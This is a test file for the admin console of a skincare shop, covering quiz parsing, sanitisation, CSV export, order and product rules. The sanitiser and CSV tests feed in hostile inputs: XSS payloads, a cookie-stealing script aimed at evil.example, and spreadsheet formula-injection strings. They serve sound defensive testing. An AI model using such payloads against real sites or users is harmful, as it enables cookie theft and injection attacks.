// The console's pure rules: summary/fallback of quiz data (well-formed, malformed, empty, hostile), markup
// stripping, safe links, CSV escaping, counters and the dashboard's figures.
import { describe, expect, it, vi } from 'vitest';
import type { QuizSubmission } from '@shared/schemas/quiz';
import { categoryLabel, categoryStyle, UNKNOWN_CATEGORY } from './categories';
import { csvCell, toCsv } from '@shared/csv';
import { csvFileName, submissionsCsv } from './csv';
import { conversionPercent, sessionTitle } from './figures';
import { decodeEntities, safeUrl, stripMarkup } from './markup';
import {
  buildResponses,
  buildSkinSummary,
  CAPTURED,
  customerName,
  NOT_SPECIFIED,
  structuredLines,
} from './quiz-parsing';
import { countByStatus, statusLabel } from './status';
import {
  carrierChoice,
  carrierValue,
  checkTracking,
  confirmation,
  moveBody,
  offeredMoves,
  offeredPayments,
  paymentBody,
} from './fulfilment';
import { draftOf, filterProducts, isDirty, productChange } from './product-edits';
import { createBody, emptyForm, errorsOf, formOf, patchBody } from './product-form';
import { PICTURE_ACCEPT, pictureFileProblem, pictureForm } from './picture-upload';
import type { AdminProduct } from '@shared/schemas/catalogue';

const raw = (data: unknown) => ({
  question: 'Raw Data',
  answer: typeof data === 'string' ? data : JSON.stringify(data),
});

const WELL_FORMED = {
  answersByBlock: {
    block_e4466449: { value: '25-34' },
    block_cdc78df5: { value: 'Combination' },
    block_9038ec7e: { value: ['Breakouts', 'Dark spots'] },
    block_e6310ca6: { value: 'Serums' },
    block_329aaeff: { value: 'Intermediate' },
    block_a2ad2c93: { value: 'Never used retinol' },
  },
  recommendationsBySlot: {
    'slot-1': [
      {
        title: 'Clarifying 2% Salicylic Acid Cleanser',
        price: { amount: '18.5', currencyCode: 'GBP' },
        slotDescription: '<p><strong>Cleanse:</strong> 2% salicylic acid clears <em>breakouts</em>.</p>',
        image: { url: '/images/products/cleanser.svg' },
        onlineStoreUrl: 'https://www.skincircle.co.uk/products/cleanser',
      },
    ],
    'slot-2': [
      {
        title: 'Dark Spot Serum',
        price: { amount: 42, currencyCode: 'EUR' },
        slotDescription: 'Fades marks',
        image: { url: 'https://cdn.example.com/s.png' },
        onlineStoreUrl: 'https://www.skincircle.co.uk/products/serum',
      },
    ],
  },
};

describe('Skin Assessment Summary (SPEC §2 rule)', () => {
  it('reads the six blocks by their id suffix, in order, lists joined', () => {
    const summary = buildSkinSummary([{ question: 'What is your skin type?', answer: 'Dry' }, raw(WELL_FORMED)])!;
    expect(summary.fields).toEqual([
      { label: 'Age', value: '25-34' },
      { label: 'Skin Type', value: 'Combination' },
      { label: 'Main Concerns', value: 'Breakouts, Dark spots' },
      { label: 'Preferred Products', value: 'Serums' },
      { label: 'Routine Level', value: 'Intermediate' },
      { label: 'Retinol Experience', value: 'Never used retinol' },
    ]);
  });

  it('lists every slot’s recommendations with pound prices (whatever the currency), plain-text descriptions and safe links', () => {
    const { recommendations } = buildSkinSummary([raw(WELL_FORMED)])!;
    expect(recommendations).toEqual([
      {
        title: 'Clarifying 2% Salicylic Acid Cleanser',
        price: '£18.50',
        description: 'Cleanse: 2% salicylic acid clears breakouts.',
        imageUrl: '/images/products/cleanser.svg',
        productUrl: 'https://www.skincircle.co.uk/products/cleanser',
      },
      {
        title: 'Dark Spot Serum',
        price: '£42.00',
        description: 'Fades marks',
        imageUrl: 'https://cdn.example.com/s.png',
        productUrl: 'https://www.skincircle.co.uk/products/serum',
      },
    ]);
  });

  it('shows Not specified for missing, empty or unusable block values', () => {
    const summary = buildSkinSummary([
      raw({
        answersByBlock: {
          block_e4466449: { value: '' },
          block_cdc78df5: { value: [] },
          block_9038ec7e: { value: { nested: 1 } },
          other_block: { value: 'x' },
        },
      }),
    ])!;
    expect(summary.fields.map((f) => f.value)).toEqual(Array(6).fill(NOT_SPECIFIED));
    expect(summary.recommendations).toEqual([]);
  });

  it('is absent without a Raw Data question, with an empty or non-object answersByBlock, or with JSON that is not an object', () => {
    for (const questions of [
      [],
      [{ question: 'What is your skin type?', answer: '{"answersByBlock":{"block_e4466449":{"value":"25-34"}}}' }],
      [raw({ answersByBlock: {} })],
      [raw({ answersByBlock: [] })],
      [raw({ answersByBlock: 'block_e4466449' })],
      [raw({ name: 'Hannah', email: 'h@example.net' })],
      [raw('[1,2,3]')],
      [raw('"just a string"')],
      [raw('null')],
    ]) {
      expect(buildSkinSummary(questions)).toBeNull();
    }
  });

  it('logs malformed Raw Data and gives no summary (SPEC §8)', () => {
    const log = vi.fn();
    const truncated =
      '{"answersByBlock": {"block_e4466449": {"value": "35-44"}, "block_9038ec7e": {"value": ["Enlarged pores", ';
    expect(buildSkinSummary([raw(truncated)], log)).toBeNull();
    expect(log).toHaveBeenCalledOnce();
    expect(log.mock.calls[0][0]).toContain('Raw Data');
  });

  it('skips broken recommendations and hides what is unsafe or unusable', () => {
    const { recommendations } = buildSkinSummary([
      raw({
        answersByBlock: { block_e4466449: { value: '18-24' } },
        recommendationsBySlot: {
          a: [null, 'text', { price: { amount: '5.00' } }, { title: '  ' }],
          b: {
            title: 'Odd One',
            price: { amount: 'twelve pounds' },
            image: { url: 'javascript:alert(1)' },
            onlineStoreUrl: 'javascript:alert(document.cookie)',
            slotDescription: 42,
          },
          c: [
            {
              title: 'Neg',
              price: { amount: '-3.00' },
              image: '//evil.example/x.png',
              onlineStoreUrl: 'data:text/html,<script>alert(1)</script>',
            },
          ],
          d: 'not a list',
        },
      }),
    ])!;
    expect(recommendations).toEqual([
      { title: 'Odd One', price: null, description: '', imageUrl: null, productUrl: null },
      { title: 'Neg', price: null, description: '', imageUrl: null, productUrl: null },
    ]);
  });

  it('never lets markup or script through: descriptions and titles come back as plain text', () => {
    const hostile = {
      answersByBlock: { block_cdc78df5: { value: '<img src=x onerror=alert(1)>Oily' } },
      recommendationsBySlot: {
        s: [
          {
            title: '<b>Serum</b><script>alert("t")</script>',
            slotDescription:
              '<p onclick="alert(1)">Great <a href="javascript:alert(1)">serum</a></p><script>document.location="https://evil.example?c="+document.cookie</script><style>body{display:none}</style><img src=x onerror="alert(\'>\')"><!-- <script>alert(2)</script> -->done',
            image: { url: 'https://cdn.example.com/a.png" onerror="alert(1)' },
          },
        ],
      },
    };
    const summary = buildSkinSummary([raw(hostile)])!;
    const rec = summary.recommendations[0];
    expect(rec.title).toBe('Serum');
    expect(rec.description).toBe('Great serum done');
    for (const text of [rec.title, rec.description]) {
      expect(text).not.toContain('<');
      expect(text).not.toMatch(/alert|script|onerror|cookie/);
    }
    // The image address is percent-encoded by URL parsing: it can never close the attribute.
    expect(rec.imageUrl).not.toContain('"');
    // A block value is shown as written — as text, which React escapes; it is never parsed as HTML.
    expect(summary.fields[1].value).toBe('<img src=x onerror=alert(1)>Oily');
  });
});

describe('Quiz Responses fallback', () => {
  it('shows plain answers as Response text, exactly as given (hostile text stays text)', () => {
    const hostile = 'My skin reacts <img src=x onerror=alert(1)> <script>alert("xss")</script>';
    expect(
      buildResponses([
        { question: 'What is your skin type?', answer: 'Oily' },
        { question: 'Anything else?', answer: hostile },
        { question: 'Steps', answer: '2' },
      ]),
    ).toEqual([
      { question: 'What is your skin type?', kind: 'plain', text: 'Oily' },
      { question: 'Anything else?', kind: 'plain', text: hostile },
      { question: 'Steps', kind: 'plain', text: '2' },
    ]);
  });

  it('shows JSON object answers as Structured Data: Name, Email, Quiz, then labelled blocks (others Response)', () => {
    const [item] = buildResponses([
      raw({
        name: 'Hannah Wright',
        email: 'hannah@example.net',
        quiz: 'Skin Circle Skin Assessment',
        answersByBlock: {
          block_329aaeff: { value: 'Beginner' },
          block_e4466449: { value: '45-54' },
          block_ffffffff: { value: ['A', 'B'] },
          block_0: { value: '' },
        },
      }),
    ]);
    expect(item).toEqual({
      question: 'Raw Data',
      kind: 'structured',
      lines: [
        { label: 'Name', value: 'Hannah Wright' },
        { label: 'Email', value: 'hannah@example.net' },
        { label: 'Quiz', value: 'Skin Circle Skin Assessment' },
        { label: 'Routine Level', value: 'Beginner' },
        { label: 'Age Range', value: '45-54' },
        { label: 'Response', value: 'A, B' },
      ],
    });
  });

  it('says the data was captured when a JSON object has nothing to extract', () => {
    expect(buildResponses([raw({ answersByBlock: {}, something: { deep: true } }), raw({})])).toEqual([
      { question: 'Raw Data', kind: 'captured' },
      { question: 'Raw Data', kind: 'captured' },
    ]);
    expect(CAPTURED).toBe('Quiz data captured (details available in system)');
  });

  it('shows malformed JSON, arrays and numbers as plain Response text', () => {
    const truncated = '{"answersByBlock": {"block_e4466449": ';
    expect(buildResponses([raw(truncated), raw('[1,2]'), raw('42')]).map((r) => r.kind)).toEqual([
      'plain',
      'plain',
      'plain',
    ]);
    expect(buildResponses([raw(truncated)])[0]).toMatchObject({ text: truncated });
  });

  it('copes with an empty list and with junk entries', () => {
    expect(buildResponses([])).toEqual([]);
    expect(buildResponses([{ question: 1, answer: null } as never])).toEqual([
      { question: '', kind: 'plain', text: '' },
    ]);
    expect(structuredLines({ name: { first: 'x' }, email: 7 })).toEqual([{ label: 'Email', value: '7' }]);
  });
});

describe('stripMarkup', () => {
  const cases: Array<[string, string]> = [
    ['<p>Hello <strong>world</strong></p>', 'Hello world'],
    ['line one<br/>line two', 'line one line two'],
    ['a < b and c > d', 'a < b and c > d'],
    ['I <3 SPF', 'I <3 SPF'],
    ['<a title="x > y" href="#">link</a>', 'link'],
    ["<a title='it\"s'>q</a>", 'q'],
    ['<SCRIPT type="text/javascript">alert(1)</SCRIPT>after', 'after'],
    ['<script>if (a < b) alert("</scrip")</script >ok', 'ok'],
    ['<style>p{color:red}</style>styled', 'styled'],
    ['<!-- hidden -->shown', 'shown'],
    ['<!DOCTYPE html><?xml version="1.0"?>doc', 'doc'],
    ['Fish &amp; chips &lt;b&gt; &#163;5 &#x2014; &pound;6 &unknown; &', 'Fish & chips <b> £5 — £6 &unknown; &'],
    ['<b>unclosed tag', 'unclosed tag'],
    ['<img src=x onerror=alert(1)', ''],
    ['<script>never closed', ''],
    ['  lots   of\n\n space  ', 'lots of space'],
  ];
  for (const [input, expected] of cases) {
    it(`${JSON.stringify(input).slice(0, 50)} → ${JSON.stringify(expected)}`, () =>
      expect(stripMarkup(input)).toBe(expected));
  }

  it('caps the length and ignores non-text', () => {
    expect(stripMarkup('x'.repeat(50), 10)).toBe(`${'x'.repeat(9)}…`);
    expect(stripMarkup(undefined)).toBe('');
    expect(stripMarkup({ html: '<p>' })).toBe('');
  });

  it('does not decode control characters from entities', () => {
    expect(decodeEntities('a&#0;b&#x1b;c&#65;')).toBe('a&#0;b&#x1b;cA');
  });
});

describe('safeUrl', () => {
  it('allows http(s), and site paths only when asked', () => {
    expect(safeUrl('https://www.skincircle.co.uk/p')).toBe('https://www.skincircle.co.uk/p');
    expect(safeUrl('/images/a.svg')).toBeNull();
    expect(safeUrl('/images/a.svg', { allowRelative: true })).toBe('/images/a.svg');
    for (const bad of [
      'javascript:alert(1)',
      ' JavaScript:alert(1)',
      'data:text/html,x',
      '//evil.example/x',
      '/\\evil.example',
      'vbscript:x',
      '',
      42,
      null,
    ]) {
      expect(safeUrl(bad, { allowRelative: true })).toBeNull();
    }
  });
});

describe('CSV export', () => {
  it('escapes quotes, commas and new lines, and defuses formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    for (const start of ['+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1`).replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
    expect(csvCell(null)).toBe('');
    expect(
      toCsv([
        ['a', 'b'],
        ['c', 'd'],
      ]),
    ).toBe('a,b\r\nc,d\r\n');
  });

  it('writes one row per submission under the headings', () => {
    const s = {
      id: '1',
      externalId: 'qz_1',
      createdAt: '2026-03-05T10:00:00.000Z',
      updatedAt: '2026-03-05T10:00:00.000Z',
      quizName: 'Quiz',
      email: 'a@example.com',
      firstName: 'Ada',
      lastName: null,
      fullName: '=cmd|calc',
      phone: '+44 7700 900123',
      questions: [],
      status: 'pending',
      reviewNotes: 'Called, "keen"',
      history: [],
    } satisfies QuizSubmission;
    const lines = submissionsCsv([s]).split('\r\n');
    expect(lines[0]).toBe('Submitted,Name,First name,Last name,Email,Phone,Quiz,Status,Review notes,Provider id');
    expect(lines[1]).toBe(
      `2026-03-05T10:00:00.000Z,'=cmd|calc,Ada,,a@example.com,'+44 7700 900123,Quiz,Pending Review,"Called, ""keen""",qz_1`,
    );
    expect(csvFileName(new Date('2026-03-05T23:30:00Z'))).toBe('quiz-submissions-2026-03-05.csv');
    expect(csvFileName(new Date('2026-07-05T23:30:00Z'), 'pending')).toBe('quiz-submissions-pending-2026-07-06.csv');
  });
});

describe('labels and figures', () => {
  it('names customers: full name, else first name, else Unknown Customer', () => {
    expect(customerName({ fullName: 'Sophie Bennett', firstName: 'Sophie' })).toBe('Sophie Bennett');
    expect(customerName({ fullName: '  ', firstName: 'Chloe' })).toBe('Chloe');
    expect(customerName({ fullName: null, firstName: null })).toBe('Unknown Customer');
  });

  it('counts statuses and labels pending as Pending Review', () => {
    const list = (['pending', 'pending', 'reviewed', 'contacted', 'completed', 'completed', 'completed'] as const).map(
      (status) => ({ status }),
    );
    expect(countByStatus(list)).toEqual({ total: 7, pending: 2, reviewed: 1, contacted: 1, completed: 3 });
    expect(countByStatus([])).toEqual({ total: 0, pending: 0, reviewed: 0, contacted: 0, completed: 0 });
    expect(statusLabel('pending')).toBe('Pending Review');
  });

  it('computes conversion as a rounded percentage, 0 with no sessions', () => {
    expect(conversionPercent(0, 0)).toBe(0);
    expect(conversionPercent(5, 7)).toBe(71);
    expect(conversionPercent(1, 8)).toBe(13); // 12.5 rounds up
    expect(conversionPercent(3, 3)).toBe(100);
  });

  it('titles a session by email, else Session and 8 characters of its id', () => {
    expect(sessionTitle({ email: 'a@example.com', sessionId: 'x' })).toBe('a@example.com');
    expect(sessionTitle({ email: null, sessionId: '5d07e3b9-seed-penny-0003' })).toBe('Session 5d07e3b9');
  });

  it('paints known categories and greys unknown ones, with underscores as spaces', () => {
    expect(categoryStyle('acne')).not.toEqual(UNKNOWN_CATEGORY);
    expect(categoryStyle('made_up')).toEqual(UNKNOWN_CATEGORY);
    expect(categoryStyle('toString')).toEqual(UNKNOWN_CATEGORY);
    const known = [
      'acne',
      'dryness',
      'oily_skin',
      'sensitive_skin',
      'anti_aging',
      'pigmentation',
      'product_recommendation',
      'skincare_routine',
      'general_question',
    ];
    expect(new Set(known.map((c) => categoryStyle(c).dot)).size).toBe(known.length);
    expect(categoryLabel('product_recommendation')).toBe('product recommendation');
  });
});

describe('order page rules (COMMERCE §5–6)', () => {
  const order = (status: string, paymentStatus: string, paymentProvider = 'manual') => ({
    status,
    paymentStatus,
    paymentProvider,
    total: '35.70',
    pointsEarned: 35,
  });

  it('offers the next moves, a waiting one with its reason, and nothing a refund has ended', () => {
    expect(offeredMoves(order('pending', 'unpaid'))).toEqual([
      { to: 'processing', refusal: 'Record the payment before processing the order' },
      { to: 'cancelled', refusal: null },
    ]);
    expect(offeredMoves(order('processing', 'paid'))).toEqual([
      { to: 'shipped', refusal: null },
      { to: 'cancelled', refusal: null },
    ]);
    // Refunded: only cancelling is left, whatever shared/orders.ts says on this branch.
    expect(offeredMoves(order('pending', 'refunded')).map((m) => m.to)).toEqual(['cancelled']);
    expect(offeredMoves(order('processing', 'refunded')).map((m) => m.to)).toEqual(['cancelled']);
    expect(offeredMoves(order('shipped', 'refunded'))).toEqual([]);
    expect(offeredMoves(order('delivered', 'paid'))).toEqual([]);
  });

  it('offers a bank payment or a bank refund, a card refund only when Stripe refused it after a cancel', () => {
    expect(offeredPayments(order('pending', 'unpaid'))).toEqual(['paid']);
    expect(offeredPayments(order('cancelled', 'unpaid'))).toEqual([]);
    expect(offeredPayments(order('delivered', 'paid'))).toEqual(['refunded']);
    expect(offeredPayments(order('cancelled', 'paid'))).toEqual(['refunded']);
    expect(offeredPayments(order('cancelled', 'refunded'))).toEqual([]);
    expect(offeredPayments(order('pending', 'unpaid', 'stripe'))).toEqual([]);
    expect(offeredPayments(order('processing', 'paid', 'stripe'))).toEqual([]);
    expect(offeredPayments(order('delivered', 'paid', 'stripe'))).toEqual([]);
    // Cancelled but still paid: Stripe refused the refund, staff make it in the dashboard and record it.
    expect(offeredPayments(order('cancelled', 'paid', 'stripe'))).toEqual(['refunded']);
    expect(confirmation('refunded', order('cancelled', 'paid', 'stripe'))?.description).toMatch(
      /^Refund the card in Stripe/,
    );
    expect(offeredPayments(order('cancelled', 'refunded', 'stripe'))).toEqual([]);
  });

  it('asks before the irreversible steps, saying what will happen', () => {
    expect(confirmation('processing', order('pending', 'paid'))).toBeNull();
    expect(confirmation('shipped', { ...order('processing', 'paid'), carrier: 'royal mail' })).toMatchObject({
      title: 'Mark as shipped?',
      description: 'The customer is emailed the tracking link.',
    });
    expect(confirmation('shipped', { ...order('processing', 'paid'), carrier: 'Acme Couriers' })?.description).toBe(
      'The customer is emailed the tracking number.',
    );
    expect(confirmation('delivered', order('shipped', 'paid'))?.description).toContain('credited 35 points');
    const cancel = confirmation('cancelled', order('processing', 'paid'))!;
    expect(cancel.title).toBe('Cancel order?');
    expect(cancel.description).toMatch(/^Units go back to stock/);
    expect(cancel.description).toContain('refunded by bank transfer');
    expect(confirmation('cancelled', order('processing', 'paid', 'stripe'))?.description).toContain(
      'refunded through Stripe',
    );
    expect(confirmation('cancelled', order('pending', 'unpaid'))?.description).not.toMatch(/refund/);
    expect(confirmation('paid', order('pending', 'unpaid'))?.title).toBe('Record a payment of £35.70?');
    expect(confirmation('refunded', order('delivered', 'paid'))?.description).toContain(
      'The 35 points this order earned are taken back.',
    );
    expect(confirmation('refunded', order('cancelled', 'paid'))?.description).not.toContain('points');
    expect(confirmation('refunded', order('pending', 'paid'))?.description).toContain(
      'the order is cancelled with the refund: its units go back to stock',
    );
    expect(confirmation('refunded', order('shipped', 'paid'))?.description).toContain(
      'can no longer be marked delivered',
    );
  });

  it('needs a tracking number, checks it as the server does, and sends the carrier chosen or typed', () => {
    expect(checkTracking({ trackingNumber: '  ', choice: '', other: '' })).toEqual({
      errors: { trackingNumber: 'Tracking number is required' },
    });
    expect(checkTracking({ trackingNumber: 'AB<1>', choice: '', other: '' })).toEqual({
      errors: { trackingNumber: 'Tracking number must be letters, digits, spaces or dashes' },
    });
    expect(checkTracking({ trackingNumber: ' RM 12-3 ', choice: 'Royal Mail', other: '' })).toEqual({
      body: { trackingNumber: 'RM 12-3', carrier: 'Royal Mail' },
    });
    expect(checkTracking({ trackingNumber: 'X1', choice: 'Other', other: ' Acme ' })).toEqual({
      body: { trackingNumber: 'X1', carrier: 'Acme' },
    });
    expect(checkTracking({ trackingNumber: 'X1', choice: 'Other', other: 'x'.repeat(41) })).toMatchObject({
      errors: { carrier: expect.stringMatching(/^Carrier /) },
    });
    expect(carrierValue({ choice: 'Other', other: '  ' })).toBeUndefined();
    expect(carrierChoice('royal-mail')).toEqual({ choice: 'Royal Mail', other: '' });
    expect(carrierChoice('Acme Couriers')).toEqual({ choice: 'Other', other: 'Acme Couriers' });
    expect(carrierChoice(null)).toEqual({ choice: '', other: '' });
  });

  it('sends the staff note and the customer message apart, and tracking only with shipping', () => {
    const tracking = { trackingNumber: 'AB1', carrier: 'DPD' };
    expect(moveBody('shipped', { note: ' packed by Sam ', customerMessage: '' }, tracking)).toEqual({
      status: 'shipped',
      note: 'packed by Sam',
      trackingNumber: 'AB1',
      carrier: 'DPD',
    });
    expect(moveBody('cancelled', { note: '', customerMessage: 'Sorry!' }, tracking)).toEqual({
      status: 'cancelled',
      customerMessage: 'Sorry!',
    });
    expect(paymentBody('paid', { note: 'BACS ref 42', customerMessage: 'Thank you' })).toEqual({
      status: 'paid',
      note: 'BACS ref 42',
      customerMessage: 'Thank you',
    });
  });
});

describe('products screen rules', () => {
  const product = (over: Partial<AdminProduct>): AdminProduct => ({
    id: '11111111-1111-4111-8111-111111111111',
    slug: 'hyaluronic-b5-hydrating-serum',
    name: 'Multi-Weight Hyaluronic Acid + B5 Serum',
    categorySlug: 'serums',
    price: '22.00',
    memberPrice: '18.70',
    stock: 200,
    isActive: true,
    status: 'active',
    description: 'A light serum.',
    shortDescription: 'Hydrating serum',
    ingredients: ['Hyaluronic acid'],
    benefits: ['Plumps'],
    isNew: false,
    isExclusive: false,
    isFeatured: false,
    inci: 'Aqua, Sodium Hyaluronate',
    size: { amount: 30, unit: 'ml' },
    imageUrl: '/images/products/placeholder.svg',
    imageAlt: '',
    ...over,
  });
  const list = [
    product({}),
    product({
      id: '2',
      slug: 'peptide-firming-eye-cream',
      name: 'Peptide Firming Eye Cream',
      categorySlug: 'eye-care',
      stock: 2,
    }),
    product({
      id: '3',
      slug: 'bakuchiol-1-renewal-oil',
      name: 'Bakuchiol 1% Gentle Renewal Oil',
      categorySlug: 'treatments',
      stock: 0,
    }),
    product({
      id: '4',
      slug: 'old-toner',
      name: 'Crème Toner',
      categorySlug: 'masks-exfoliants',
      isActive: false,
      status: 'archived',
    }),
  ];
  const names = (ps: AdminProduct[]) => ps.map((p) => p.id);

  it('searches name, slug and category, every word, ignoring case, accents and dashes', () => {
    expect(names(filterProducts(list, '', 'all'))).toEqual(['11111111-1111-4111-8111-111111111111', '2', '3', '4']);
    expect(names(filterProducts(list, 'HYALURONIC', 'all'))).toHaveLength(1);
    expect(names(filterProducts(list, 'eye care', 'all'))).toEqual(['2']);
    expect(names(filterProducts(list, 'renewal-oil', 'all'))).toEqual(['3']);
    expect(names(filterProducts(list, 'creme', 'all'))).toEqual(['4']);
    expect(names(filterProducts(list, 'serum peptide', 'all'))).toEqual([]);
    expect(names(filterProducts(list, '', 'low'))).toEqual(['2']);
    expect(names(filterProducts(list, '', 'soldOut'))).toEqual(['3']);
    // A draft with no stock is not sold out: it was never on sale.
    const draft = { ...list[2], id: '5', status: 'draft' as const, isActive: false };
    expect(names(filterProducts([...list, draft], '', 'soldOut'))).toEqual(['3']);
    expect(names(filterProducts(list, '', 'offSale'))).toEqual(['4']);
    expect(names(filterProducts(list, '', 'all', 'archived'))).toEqual(['4']);
    expect(names(filterProducts(list, '', 'all', 'draft'))).toEqual([]);
    expect(names(filterProducts(list, 'eye', 'all', 'active'))).toEqual(['2']);
  });

  it('sends a new product checked by the shared schema, with a message per field', () => {
    const filled = {
      ...emptyForm('serums'),
      name: 'Oat Milk Cleanser',
      shortDescription: 'Gentle',
      description: 'A gentle cleanser.',
      price: '12.50',
      sizeAmount: '50',
      sizeUnit: 'g' as const,
      ingredients: 'Oat\n\n Glycerin ',
    };
    expect(createBody(filled)).toEqual({
      body: expect.objectContaining({
        name: 'Oat Milk Cleanser',
        status: 'draft',
        stock: 0,
        size: { amount: 50, unit: 'g' },
        ingredients: ['Oat', 'Glycerin'],
      }),
    });
    expect('slug' in (createBody(filled) as { body: object }).body).toBe(false);
    expect(createBody({ ...filled, price: 'free', sizeAmount: '0', name: ' ' })).toEqual({
      errors: {
        name: 'Name must not be empty',
        price: 'Price must be an amount like 12.50',
        sizeAmount: 'Size must be more than 0',
      },
    });
    expect(errorsOf([{ path: 'body.size.unit', message: "must be 'ml' or 'g'" }])).toEqual({
      sizeUnit: "Unit must be 'ml' or 'g'",
    });
  });

  it('sends only what an edit changed, stock with the stock the form showed', () => {
    const p = product({ stock: 7 });
    expect(patchBody(formOf(p), p)).toEqual({ unchanged: true });
    expect(patchBody({ ...formOf(p), stock: '9', status: 'archived', sizeAmount: '' }, p)).toEqual({
      patch: { stock: 9, previousStock: 7, status: 'archived', size: null },
    });
    expect(patchBody({ ...formOf(p), memberPrice: '30.00x' }, p)).toEqual({
      errors: { memberPrice: 'Member price must be an amount like 12.50' },
    });
  });

  it("sends the picture's description with the product, checked by the shared schema (decision 0508)", () => {
    const p = product({ imageAlt: '' });
    expect(patchBody({ ...formOf(p), imageAlt: ' A green bottle ' }, p)).toEqual({
      patch: { imageAlt: ' A green bottle ' },
    });
    expect(patchBody({ ...formOf(p), imageAlt: 'x'.repeat(201) }, p)).toEqual({
      errors: { imageAlt: 'Picture description (alt text) must be at most 200 characters' },
    });
    expect(errorsOf([{ path: 'body.imageAlt', message: 'must be at most 200 characters' }])).toEqual({
      imageAlt: 'Picture description (alt text) must be at most 200 characters',
    });
  });

  it('sends a stock change with the stock the row showed, and only what changed', () => {
    const p = product({ stock: 7 });
    expect(productChange(draftOf(p), p)).toEqual({ unchanged: true });
    expect(productChange({ ...draftOf(p), stock: ' 12 ' }, p)).toEqual({ patch: { stock: 12, previousStock: 7 } });
    expect(productChange({ ...draftOf(p), price: '25', memberPrice: '' }, p)).toEqual({
      patch: { price: '25', memberPrice: null },
    });
    expect(productChange({ ...draftOf(p), stock: 'lots' }, p)).toEqual({
      errors: { stock: 'Stock must be a whole number' },
    });
    expect(productChange({ ...draftOf(p), stock: '2.5' }, p)).toEqual({
      errors: { stock: 'Stock must be a whole number' },
    });
    expect(productChange({ ...draftOf(p), price: '0' }, p)).toEqual({ errors: { price: 'Price must be more than 0' } });
    expect(isDirty({ ...draftOf(p), isActive: false }, p)).toBe(true);
    expect(isDirty(draftOf(p), p)).toBe(false);
  });
});

describe('picture upload (decision 0508)', () => {
  it('refuses before sending what the shop surely refuses, and leaves the rest to the server', () => {
    expect(PICTURE_ACCEPT).toBe('image/jpeg,image/png,image/webp');
    expect(pictureFileProblem({ type: 'image/jpeg', size: 2_000_000 })).toBeNull();
    expect(pictureFileProblem({ type: 'image/webp', size: 10 * 1024 * 1024 })).toBeNull();
    // A type the browser does not know: the server reads what the file really is.
    expect(pictureFileProblem({ type: '', size: 1000 })).toBeNull();
    expect(pictureFileProblem({ type: 'image/gif', size: 1000 })).toBe('The picture must be a JPEG, PNG or WebP file.');
    expect(pictureFileProblem({ type: 'text/plain', size: 1000 })).toBe(
      'The picture must be a JPEG, PNG or WebP file.',
    );
    expect(pictureFileProblem({ type: 'image/png', size: 10 * 1024 * 1024 + 1 })).toBe(
      'The picture is larger than 10 MB: please send a smaller one.',
    );
    expect(pictureFileProblem({ type: 'image/png', size: 0 })).toBe('The file is empty.');
  });

  it('sends the file in the field the server reads', () => {
    const form = pictureForm(new Blob(['x'], { type: 'image/png' }), 'pack.png');
    const file = form.get('file') as File;
    expect(file.name).toBe('pack.png');
    expect([...form.keys()]).toEqual(['file']);
  });
});
